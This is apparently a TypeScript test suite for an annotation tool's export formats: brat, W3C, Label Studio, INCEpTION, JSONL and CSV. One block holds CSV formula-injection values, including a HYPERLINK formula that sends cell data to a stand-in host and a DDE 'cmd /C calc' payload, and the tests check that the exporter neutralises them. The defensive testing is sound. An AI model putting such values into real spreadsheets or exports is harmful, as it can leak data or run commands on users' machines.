import * as assert from 'node:assert/strict';
import { DEFAULT_LABELS } from '../../../../src/core/annotations/labels/labelConfig';
import { bratToken, exportBrat, lineFragments, parseBrat } from '../../../../src/core/interchange/brat';
import { createAnnotation } from '../../../../src/core/annotations/model/create';
import type { Annotation } from '../../../../src/core/annotations/model/types';
import { CSV_COLUMNS, exportCsv } from '../../../../src/core/interchange/csv';
import { exportInception, INCEPTION_LAYER } from '../../../../src/core/interchange/inception';
import { exportJsonl } from '../../../../src/core/interchange/jsonl';
import { exportLabelStudio } from '../../../../src/core/interchange/labelStudio';
import type { ExportArticle, ExportResult } from '../../../../src/core/interchange/types';
import { exportW3c } from '../../../../src/core/interchange/w3c';
import { exportArticles, nameClashes, withoutClashes } from '../../../../src/core/interchange/formats';
import { codePointsOf, orphanedTag, sampleArticle, sampleTags, TEXT } from './testArticle';

function file(result: ExportResult, path: string): string {
  const found = result.files.find((f) => f.path === path);
  if (found === undefined) throw new Error(`no ${path} in ${result.files.map((f) => f.path).join(', ')}`);
  return found.content;
}

/** Slices by code points, as Python and the formats' own tools do. */
function codePointSlice(text: string, start: number, end: number): string {
  return [...text].slice(start, end).join('');
}

/** A small RFC 4180 reader for checking what we write. */
function readCsv(content: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < content.length; i++) {
    const c = content[i];
    if (quoted && c === '"' && content[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && content[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe('export formats', () => {
  const article = sampleArticle([...sampleTags(), orphanedTag()]);

  it('brat: code point offsets, a tag across a line break as two fragments, notes and attributes, a copy of the text', () => {
    const result = exportBrat([article], DEFAULT_LABELS);
    assert.equal(file(result, 'story.txt'), TEXT);
    const lines = file(result, 'story.ann').trimEnd().split('\n');
    const quote = codePointsOf('“We will win 😀,”');
    assert.equal(lines[0], `T1\tquote ${quote.start} ${quote.end}\t“We will win 😀,”`);
    assert.equal(codePointSlice(TEXT, quote.start, quote.end), '“We will win 😀,”');
    assert.ok(lines.includes('A1\tspeaker T1 Ana_Ruiz'));
    assert.ok(lines.includes('#1\tAnnotatorNotes T1\tcheck, "verbatim"\\nsecond line'));
    const first = codePointsOf('The vote');
    const second = codePointsOf('is final.');
    assert.ok(lines.includes(`T3\tclaim ${first.start} ${first.end};${second.start} ${second.end}\tThe vote is final.`), lines.join('\n'));
    assert.ok(lines.includes('A2\tchecked T3 true'));
    assert.equal(result.skipped, 1, 'the orphaned tag cannot be said in brat');
    const conf = file(result, 'annotation.conf');
    assert.match(conf, /\[entities\]\nspeaker\nquote\nnoise\nclaim\nparaphrase\nnote\n/);
    assert.match(conf, /speaker\tArg:<ENTITY>, Value:Ana_Ruiz/);
  });

  it('brat: line fragments drop the line breaks themselves, CRLF or LF', () => {
    const text = 'ab\r\ncd\nef';
    assert.deepEqual(lineFragments(text, 0, text.length), [[0, 2], [4, 6], [7, 9]]);
    assert.deepEqual(lineFragments(text, 1, 5), [[1, 2], [4, 5]]);
  });

  it('w3c: one Annotation per tag with tagging and commenting bodies, quote and code point position selectors', () => {
    const result = exportW3c([article]);
    const collection = JSON.parse(file(result, 'story.jsonld')) as { '@context': unknown[]; type: string; total: number; first: { items: Record<string, unknown>[] } };
    assert.equal(collection['@context'][0], 'http://www.w3.org/ns/anno.jsonld');
    assert.equal(collection.type, 'AnnotationCollection');
    assert.equal(collection.total, 5);
    const quote = collection.first.items[0] as { type: string; body: { purpose: string; value: string }[]; target: { source: string; selector: Record<string, unknown>[] }; creator: { name: string }; created: string; modified: string };
    assert.equal(quote.type, 'Annotation');
    assert.deepEqual(quote.body.map((b) => [b.purpose, b.value]), [['tagging', 'quote'], ['commenting', 'check, "verbatim"\nsecond line']]);
    assert.equal(quote.target.source, 'story.txt');
    const [textQuote, position] = quote.target.selector;
    assert.deepEqual(textQuote, { type: 'TextQuoteSelector', exact: '“We will win 😀,”', prefix: 'Breaking 🚀 news\r\n\r\n', suffix: ' said Ana Ruiz.\r\nShe added: “The' });
    assert.deepEqual(position, { type: 'TextPositionSelector', ...codePointsOf('“We will win 😀,”') });
    assert.equal(quote.creator.name, 'ana');
    assert.ok(quote.created && quote.modified);
    const orphan = collection.first.items.find((i) => i['sa:status'] === 'orphaned') as { target: { selector: unknown[] } } | undefined;
    assert.ok(orphan, 'the orphaned tag is exported with its status');
    assert.equal(orphan.target.selector.length, 1, 'an orphaned tag has a quote but no position');
    assert.equal(result.skipped, 0);
  });

  it('label-studio: one task per article, regions with code point start/end, text and labels, one annotation per author', () => {
    const result = exportLabelStudio([article]);
    const tasks = JSON.parse(file(result, 'label-studio.json')) as { data: { text: string }; annotations: { created_username: string; result: { id: string; value: { start: number; end: number; text: string; labels: string[] }; meta?: { text: string[] } }[] }[] }[];
    assert.equal(tasks.length, 1);
    const task = tasks[0];
    assert.ok(task);
    assert.equal(task.data.text, TEXT);
    assert.deepEqual(task.annotations.map((a) => [a.created_username, a.result.length]), [['ana', 3], ['Bo Li', 1]]);
    for (const region of task.annotations.flatMap((a) => a.result)) {
      assert.equal(codePointSlice(TEXT, region.value.start, region.value.end), region.value.text);
    }
    assert.deepEqual(task.annotations[0]?.result[0]?.meta?.text, ['check, "verbatim"\nsecond line']);
    assert.equal(result.skipped, 1);
  });

  it('inception: UIMA CAS JSON with the text as sofa and UTF-16 begin/end on a declared custom layer', () => {
    const result = exportInception([article]);
    const cas = JSON.parse(file(result, 'story.json')) as { '%TYPES': Record<string, { '%SUPER_TYPE': string }>; '%FEATURE_STRUCTURES': Record<string, unknown>[]; '%VIEWS': { _InitialView: { '%SOFA': number; '%MEMBERS': number[] } } };
    assert.equal(cas['%TYPES'][INCEPTION_LAYER]?.['%SUPER_TYPE'], 'uima.tcas.Annotation');
    const sofa = cas['%FEATURE_STRUCTURES'].find((fs) => fs['%TYPE'] === 'uima.cas.Sofa');
    assert.equal(sofa?.['sofaString'], TEXT);
    const tags = cas['%FEATURE_STRUCTURES'].filter((fs) => fs['%TYPE'] === INCEPTION_LAYER) as { '%ID': number; begin: number; end: number; label: string }[];
    assert.equal(tags.length, 4);
    for (const tag of tags) assert.ok(cas['%VIEWS']._InitialView['%MEMBERS'].includes(tag['%ID']));
    const thumbs = tags.find((t) => t.label === 'note');
    assert.equal(TEXT.slice(thumbs?.begin, thumbs?.end), '👍🏽', 'UTF-16 offsets, as UIMA counts in Java');
  });

  it('jsonl: one line per article with code point spans; orphaned tags in meta', () => {
    const result = exportJsonl([article, { ...sampleArticle([]), name: 'empty.txt' }]);
    const lines = file(result, 'annotations.jsonl').trimEnd().split('\n');
    assert.equal(lines.length, 2);
    const record = JSON.parse(lines[0] ?? '') as { text: string; meta: { file: string; orphaned: { text: string }[] }; spans: { start: number; end: number; label: string; text: string }[] };
    assert.equal(record.text, TEXT);
    assert.equal(record.meta.file, 'story.txt');
    for (const span of record.spans) assert.equal(codePointSlice(TEXT, span.start, span.end), span.text);
    assert.deepEqual(record.meta.orphaned.map((o) => o.text), ['a deleted sentence']);
    assert.deepEqual((JSON.parse(lines[1] ?? '') as { spans: unknown[] }).spans, []);
  });

  it('csv: header, one row per tag with both offsets, RFC 4180 quoting, orphaned rows with their status', () => {
    const result = exportCsv([article]);
    const content = file(result, 'annotations.csv');
    const rows = readCsv(content);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, 6);
    const column = (row: string[] | undefined, name: (typeof CSV_COLUMNS)[number]): string => row?.[CSV_COLUMNS.indexOf(name)] ?? '';
    const quote = rows.find((r) => column(r, 'label') === 'quote');
    assert.equal(column(quote, 'note'), 'check, "verbatim"\nsecond line');
    assert.equal(column(quote, 'start'), '3:0');
    assert.equal(column(quote, 'start_offset'), String(codePointsOf('“We will win 😀,”').start));
    assert.equal(column(quote, 'start_offset_utf16'), String(TEXT.indexOf('“We')));
    assert.equal(column(quote, 'attributes'), '{"speaker":"Ana Ruiz"}');
    const claim = rows.find((r) => column(r, 'id') === '00000000000c');
    assert.equal(column(claim, 'text'), 'The vote\r\nis final.');
    assert.equal(column(claim, 'end'), '5:9');
    const orphan = rows.find((r) => column(r, 'status') === 'orphaned');
    assert.equal(column(orphan, 'start'), '');
    assert.equal(column(orphan, 'text'), 'a deleted sentence');
  });

  // A scraped headline, a hand-typed note, an author name: each could open with a formula that a
  // spreadsheet would run. Each such cell is kept text by a leading ', like the report's tables.
  const formulas = [
    { column: 'note', value: '=HYPERLINK("http://example.invalid/?"&A1,"open")', written: `"'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"` },
    { column: 'note', value: '+cmd|\' /C calc\'!A0', written: `'+cmd|' /C calc'!A0` },
    { column: 'author', value: '@SUM(1+1)', written: `'@SUM(1+1)` },
    { column: 'label', value: '-2+3', written: `'-2+3` },
    { column: 'note', value: '\t=1', written: `'\t=1` },
  ] as const;
  for (const f of formulas) {
    it(`csv: a ${f.column} opening with ${JSON.stringify(f.value[0])} is written as text (${JSON.stringify(f.written)})`, () => {
      const [first, ...others] = sampleTags();
      assert.ok(first);
      const tag = { ...first, [f.column]: f.value };
      const content = file(exportCsv([sampleArticle([tag, ...others])]), 'annotations.csv');
      const row = content.split('\r\n').find((line) => line.startsWith(`story.txt,${first.id},`)) ?? '';
      assert.ok(row.includes(`,${f.written},`) || row.startsWith(`story.txt,${first.id},${f.written},`), row);
      const cell = readCsv(content).find((r) => r[1] === first.id)?.[CSV_COLUMNS.indexOf(f.column)];
      assert.equal(cell, `'${f.value}`, 'read back: the value behind one quote mark');
    });
  }

  it('csv: offsets, dates and ordinary words are written as they are', () => {
    const content = file(exportCsv([article]), 'annotations.csv');
    assert.doesNotMatch(content, /(^|,)'[^=+\-@\t\r]/m, 'no quote mark before a cell that does not need one');
  });
});

describe('export: article names that would overwrite each other', () => {
  const cases: [string, string[], string[][]][] = [
    ['distinct names', ['a/story.txt', 'b/story.txt', 'story.txt'], []],
    ['the same name twice', ['story.txt', 'story.txt'], [['story.txt', 'story.txt']]],
    ['names differing in case', ['Story.txt', 'other.txt', 'story.txt'], [['Story.txt', 'story.txt']]],
    ['names differing in Unicode normalization', ['caf\u00e9.txt', 'cafe\u0301.txt'], [['caf\u00e9.txt', 'cafe\u0301.txt']]],
  ];
  for (const [name, names, clashes] of cases) it(`nameClashes: ${name}`, () => assert.deepEqual(nameClashes(names), clashes));

  it('withoutClashes leaves out every article whose files would clash, in the formats naming files after articles', () => {
    const article = (name: string): { name: string; text: string; set: { file: string; sha256: string; annotations: []; rejections: [] } } => ({ name, text: 'x', set: { file: name, sha256: '', annotations: [], rejections: [] } });
    const { articles, clashes } = withoutClashes('brat', [article('Story.txt'), article('story.txt'), article('other.txt'), article('news/a'), article('news/A.txt')]);
    assert.deepEqual(articles.map((a) => a.name), ['other.txt']);
    assert.deepEqual(clashes.map((g) => g.map((a) => a.name)), [['Story.txt', 'story.txt'], ['news/a', 'news/A.txt']]);
    for (const format of ['jsonl', 'csv', 'label-studio'] as const) assert.equal(withoutClashes(format, [article('Story.txt'), article('story.txt')]).articles.length, 2, `${format} writes one file for all`);
    assert.throws(() => exportArticles('brat', [article('a.txt'), article('A.txt')], []), /exported files with the same name: a\.txt, A\.txt/);
  });

});

describe('brat: hostile tags', () => {
  const text = 'First line.\r\n\r\nSecond line said Ana.\r\n';
  const tag = (id: string, label: string, start: number, end: number): Annotation => createAnnotation(text, { id, label, start, end, author: 'ana', now: '2026-01-01T00:00:00.000Z' });
  const article = (annotations: Annotation[]): ExportArticle => ({ name: 'story.txt', text, set: { file: 'story.txt', sha256: '', annotations, rejections: [] } });

  it('a tag of line breaks only is one T line with an empty text, read back in place', () => {
    const lineBreak = text.indexOf('\r\n');
    const ana = text.indexOf('Ana');
    const ann = file(exportBrat([article([tag('00000000000a', 'claim', lineBreak, lineBreak + 4), tag('00000000000b', 'speaker', ana, ana + 3)])], []), 'story.ann');
    assert.deepEqual(ann.split('\n'), [`T1\tclaim ${lineBreak} ${lineBreak + 4}\t`, `T2\tspeaker ${ana} ${ana + 3}\tAna`, '']);
    const parsed = parseBrat([{ path: 'story.ann', content: ann }], new Map([['story.ann', text]]));
    assert.deepEqual(parsed.problems, []);
    assert.deepEqual(parsed.documents[0]?.tags.map((t) => [t.label, t.start, t.end]), [
      ['claim', lineBreak, lineBreak + 4],
      ['speaker', ana, ana + 3],
    ]);
  });

  const tokens: [string, string][] = [
    ['claim', 'claim'],
    ['direct quote', 'direct_quote'],
    ['#claim', '_claim'],
    ['!claim', '_claim'],
    ['-claim', '_claim'],
    ['a|b,c:d=e', 'a_b_c_d_e'],
    ['[x] <y>; z', '_x_y_z'],
    ['Zitat-Ä', 'Zitat-Ä'],
    ['   ', '_'],
  ];
  for (const [label, token] of tokens) it(`label ${JSON.stringify(label)} is declared as ${token}`, () => assert.equal(bratToken(label), token));

  it('names each tagged label it had to write otherwise', () => {
    const result = exportBrat([article([tag('00000000000c', '#claim', 0, 5), tag('00000000000d', 'speaker', 0, 5), tag('00000000000e', 'direct quote', 0, 5)])], DEFAULT_LABELS);
    assert.deepEqual(result.renamed, [
      { from: '#claim', to: '_claim' },
      { from: 'direct quote', to: 'direct_quote' },
    ]);
    assert.equal(exportBrat([article([tag('00000000000d', 'speaker', 0, 5)])], []).renamed, undefined);
  });

  it('a label brat would read as a comment is still declared in [entities]', () => {
    const conf = file(exportBrat([article([tag('00000000000c', '#claim', 0, 5)])], []), 'annotation.conf');
    const entities = conf.split('\n').slice(1, conf.split('\n').indexOf(''));
    assert.deepEqual(entities, ['_claim']);
  });
});
